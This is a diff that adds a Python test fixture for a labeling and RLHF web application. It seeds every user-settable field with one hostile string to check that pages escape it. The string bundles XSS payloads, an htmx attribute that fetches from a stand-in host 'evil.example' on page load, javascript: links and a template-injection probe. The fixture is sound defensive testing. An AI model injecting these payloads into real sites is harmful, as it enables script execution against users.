@@ -1,0 +1,156 @@
+"""A project with something behind every address, in which every text that anybody can set is hostile."""
+
+import json
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any, NamedTuple
+
+from sqlalchemy.orm import Session
+
+from app.accounts import service as accounts
+from app.models import (
+    DataImport,
+    DemonstrationEvent,
+    LabelerGroup,
+    LabelerGroupMember,
+    Metric,
+    Project,
+    ProjectLabeler,
+    User,
+)
+from tests import factories
+from tests.demonstrations.desk import task
+from tests.qualification.quizzes import RIGHT, take
+from tests.red_team.attempts import rated
+from tests.rounds.loop import config
+
+# As HTML, as an attribute's end, as Markdown, as htmx.
+HOSTILE = (
+    "<script>boom()</script><img src=x onerror=boom()>\"'><svg onload=boom()><b hx-get=//evil.example hx-trigger=load>"
+    "</b> [x](javascript:boom()) <a href=javascript:boom()>x</a> ![x](https://evil.example/p.png) {{ 7 * 7 }}"
+)
+TOKEN = "an-invitation-that-nobody-used"
+
+
+class World(NamedTuple):
+    project: Project
+    labeler: User  # to whom all that belongs to labelers belongs
+    values: dict[str, object]  # of the parameters in addresses, by name
+
+
+def build(session: Session, artifacts: Path) -> World:
+    """Adds the project and all it holds; commits."""
+    labeler, admin = factories.user(session, name=HOSTILE), factories.user(session, "admin", name=HOSTILE)
+    project = factories.project(session, name=HOSTILE, description=HOSTILE)
+    rubric = factories.rubric(
+        session,
+        project,
+        guideline=HOSTILE,
+        rationale_rule="optional",
+        aspects=[{"name": "aspect", "question": HOSTILE}],
+        flags=[{"name": "flag", "label": HOSTILE}],
+        examples=[{"prompt": HOSTILE, "better": HOSTILE, "worse": HOSTILE, "reason": HOSTILE}],
+        quiz=[
+            {"prompt": HOSTILE, "first": HOSTILE, "second": HOSTILE, "answer": answer, "feedback": HOSTILE}
+            for answer in RIGHT.values()
+        ],
+    )
+    factories.rubric(session, project, version=None, guideline=f"{HOSTILE} draft")
+    take(session, project, labeler)
+    attempt = take(session, project, factories.user(session, name=HOSTILE), {0: 0})
+    model = _models(session, project, artifacts)
+    slices: dict[str, Any] = {"domain": HOSTILE, "safety_category": HOSTILE, "source": HOSTILE}
+    prompt = factories.prompt(session, project, HOSTILE, **slices)
+    texts = (HOSTILE, f"{HOSTILE} b")
+    said = {"rationale": HOSTILE, "aspects": {"aspect": 1}, "flags": ["flag"]}
+    comparison, gold, waiting, half = (
+        factories.comparison(session, project, prompt=prompt, texts=texts, external_id=f"{HOSTILE} {n}", **values)
+        for n, values in enumerate(
+            ({"overlap": 2}, {"purpose": "calibration", "gold": 1, "overlap": 3}, {"purpose": "train"}, {"overlap": 2})
+        )
+    )
+    factories.judgment(session, comparison, preference=2, labeler_id=labeler.id, **said)
+    given = factories.lease(session, half, labeler_id=labeler.id, state="submitted")
+    judgment = factories.judgment(session, half, preference=2, labeler_id=labeler.id, lease_id=given.id, **said)
+    factories.judgment(session, comparison, preference=-2, labeler_id=attempt.labeler_id, **said)
+    factories.judgment(session, gold, preference=-1, labeler_id=labeler.id, **said)
+    comparison.state, comparison.review_reason, comparison.flagged = "in_review", "split", True
+    lease = factories.lease(session, waiting, labeler_id=labeler.id)
+    round_, run = _round(session, project)
+    written = factories.demonstration(session, prompt, HOSTILE, state="pending", author_id=labeler.id, written=HOSTILE)
+    session.add(
+        DemonstrationEvent(
+            demonstration_id=written.id, actor_id=admin.id, action="revised", note=HOSTILE, text=f"{HOSTILE} before"
+        )
+    )
+    wanted = task(session, project, HOSTILE, labeler_id=labeler.id, expires_at=datetime(2999, 1, 1, tzinfo=UTC))
+    attack = rated(
+        *(session, project, 2, HOSTILE),
+        **{"author_id": labeler.id, "domain": HOSTILE, "goal": HOSTILE, "tags": [HOSTILE], "note": HOSTILE},
+        answer={"text": HOSTILE, "finish_reason": "eos", "n_tokens": 2, "seed": 1, "sampling": {}},
+        messages=[{"role": "user", "content": HOSTILE}],
+    )
+    group = LabelerGroup(project_id=project.id, name=HOSTILE)
+    nothing: dict[str, Any] = {name: [] for name in ("prompts", "comparisons", "judgments", "demonstrations")}
+    added = dict.fromkeys(nothing, 1)
+    imported = DataImport(project_id=project.id, actor_id=admin.id, files=[HOSTILE], added=added, **nothing)
+    session.add_all([group, imported])
+    session.flush()
+    session.add(LabelerGroupMember(group_id=group.id, labeler_id=labeler.id))
+    session.add(ProjectLabeler(project_id=project.id, labeler_id=attempt.labeler_id, state="paused", reason=HOSTILE))
+    accounts.audit(
+        session, admin.id, "comparison.flag_dismissed", project.id, comparison_id=comparison.id, note=HOSTILE
+    )
+    accounts.create_link(session, roles=["labeler"], created_by=admin.id, days=1)
+    session.commit()
+    values: dict[str, object] = {
+        "project_slug": project.slug,
+        "token": TOKEN,
+        "link_id": 1,
+        "user_id": admin.id,
+        "labeler_id": labeler.id,
+        "judgment_id": judgment.id,
+        "lease_id": lease.id,
+        "version": rubric.version,
+        "form": "edit",
+        "attempt": attempt.id,
+        "item": 1,
+        "prompt_id": prompt.id,
+        "comparison_id": comparison.id,
+        "action": "dismiss",
+        "group_id": group.id,
+        "item_id": gold.id,
+        "import_id": imported.id,
+        "number": round_.number,
+        "run_id": run.id,
+        "model_id": model,
+        "task_id": wanted.id,
+        "demonstration_id": written.id,
+        "attempt_id": attack.id,
+    }
+    return World(project, labeler, values)
+
+
+def _models(session: Session, project: Project, artifacts: Path) -> int:
+    """The project's policy, whose folder is as hostile as its name."""
+    folder = artifacts / "models" / "hostile"
+    folder.mkdir(parents=True)
+    (folder / "README.md").write_text(HOSTILE)
+    (folder / "report.json").write_text(json.dumps({HOSTILE: {"a": HOSTILE, "b": [{"c": HOSTILE}]}}))
+    model = factories.model(session, project, "base", name=HOSTILE, base="models/hostile", card={HOSTILE: HOSTILE})
+    project.base_model_id = project.reference_id = project.policy_id = model.id
+    return model.id
+
+
+def _round(session: Session, project: Project) -> tuple[Any, Any]:
+    round_ = factories.round_(
+        *(session, project),
+        state="failed",
+        error=HOSTILE,
+        config=config().model_dump(mode="json"),
+        policy_before_id=project.policy_id,
+    )
+    run = factories.run(session, project, round_id=round_.id, state="failed", error=HOSTILE, progress_message=HOSTILE)
+    session.add_all(Metric(run_id=run.id, name="loss", slice=f"domain={HOSTILE}", step=n, value=1.0) for n in (1, 2))
+    session.flush()
+    return round_, run
